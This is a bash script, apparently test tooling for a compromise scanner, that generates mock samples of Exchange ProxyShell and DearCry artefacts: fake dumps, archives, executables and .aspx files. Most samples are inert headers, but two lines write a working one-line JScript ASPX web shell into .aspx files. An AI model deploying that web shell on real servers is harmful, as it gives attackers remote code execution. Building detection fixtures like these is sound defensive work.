#!/bin/bash
# Regenerates the binary test samples in malicious/ (committed as files; this
# script documents exactly what they hold).  All are inert: headers and
# marker strings only, no executable code, no real dump, archive or mailbox.
# Usage: bash tests/samples/gen-binary-samples.sh   (from anywhere)
set -eu
cd "$(dirname "$0")/malicious"

# zeros N: print N NUL bytes
zeros() { head -c "$1" /dev/zero; }
# u16 STRING: STRING as UTF-16LE (ASCII input only)
u16() { printf '%s' "$1" | perl -pe 's/(.)/$1\x00/gs'; }

# ProxyShell mailbox export saved as .aspx: PST magic, binary header bytes,
# then the (permutation-decoded) script in clear text among binary data.
{
	printf '!BDN\x4e\x2a\x91\x0c\x53\x4d\x17\x00\x13\x00\x01\x01\x00\x00\x00\x00'
	zeros 496
	printf '\x80\x01\x00\x00\xff\xee\x10\x02'
	printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["gold8899"],"unsafe");%%>'
	zeros 1024
} > proxyshell-pst.aspx

# ProxyShell certificate request written to .aspx: DER SEQUENCE header,
# then a subject carrying a page directive.
{
	printf '\x30\x82\x02\x1a\x30\x82\x01\x82\x02\x01\x00\x30\x51\x31\x4f\x30\x4d\x06\x03\x55\x04\x03\x0c\x46'
	printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["exh_der_pw"],"unsafe");%%>'
	zeros 200
} > proxyshell-der.aspx

# Fake compiled web shell: MZ stub, .NET-style member names (ASCII) and the
# virtual path (UTF-16LE, as in the #US heap).  Not a valid PE.
{
	printf 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00'
	printf 'This program cannot be run in DOS mode.\r\r\n$'
	zeros 4096
	printf '\x00get_Request\x00get_Files\x00get_Count\x00get_Item\x00get_Server\x00JScriptEvaluate\x00VsaEngine\x00CreateEngine\x00'
	u16 '~/aspnet_client/system_web/x1.aspx'
	zeros 1024
} > App_Web_abcd1234.dll

# Fake LSASS minidump: MDMP signature, version, module names in UTF-16LE.
{
	printf 'MDMP\x93\xa7\x00\x00\x0d\x00\x00\x00\x20\x00\x00\x00'
	zeros 240
	u16 'C:\Windows\System32\lsass.exe'; zeros 2
	u16 'C:\Windows\System32\lsasrv.dll'; zeros 2
	u16 'C:\Windows\System32\msv1_0.DLL'; zeros 2
	u16 'C:\Windows\System32\wdigest.DLL'; zeros 2
	zeros 2048
} > lsass.dmp

# 7-Zip signature header only.
{
	printf '7z\xbc\xaf\x27\x1c\x00\x04\x8d\x9b\xd5\x0f\x00\x00\x00\x00'
	zeros 48
} > it.7z

# Fake recon cabinet: MSCF header and CFFILE-style names.
{
	printf 'MSCF\x00\x00\x00\x00\x9c\x00\x00\x00\x00\x00\x00\x00\x2c\x00\x00\x00\x00\x00\x00\x00\x03\x01\x01\x00\x04\x00\x00\x00'
	zeros 16
	printf 'ip.txt\x00'; zeros 16
	printf 'arp.txt\x00'; zeros 16
	printf 'system\x00'; zeros 16
	printf 'security\x00'; zeros 64
} > recon.cab

# A file encrypted by DearCry starts with the DEARCRY! marker.
{
	printf 'DEARCRY!\x00\x01\x00\x00'
	head -c 256 /dev/zero | tr '\0' '\245'
} > dearcry-encrypted.CRYPT

# Fake DearCry executable: MZ stub and the marker/note strings only.
{
	printf 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00'
	zeros 512
	printf 'DEARCRY!\x00C:\\Users\\john\\Documents\\Visual Studio 2008\\Projects\\EncryptFile -svcV2\\Release\\EncryptFile.exe.pdb\x00'
	printf '/readme.txt\x00msupdate\x00create rsa error\x00'
	zeros 512
} > dearcry-binary.exe

# Web-page extension on an executable.
{
	printf 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00'
	zeros 240
} > binary-aspx.aspx
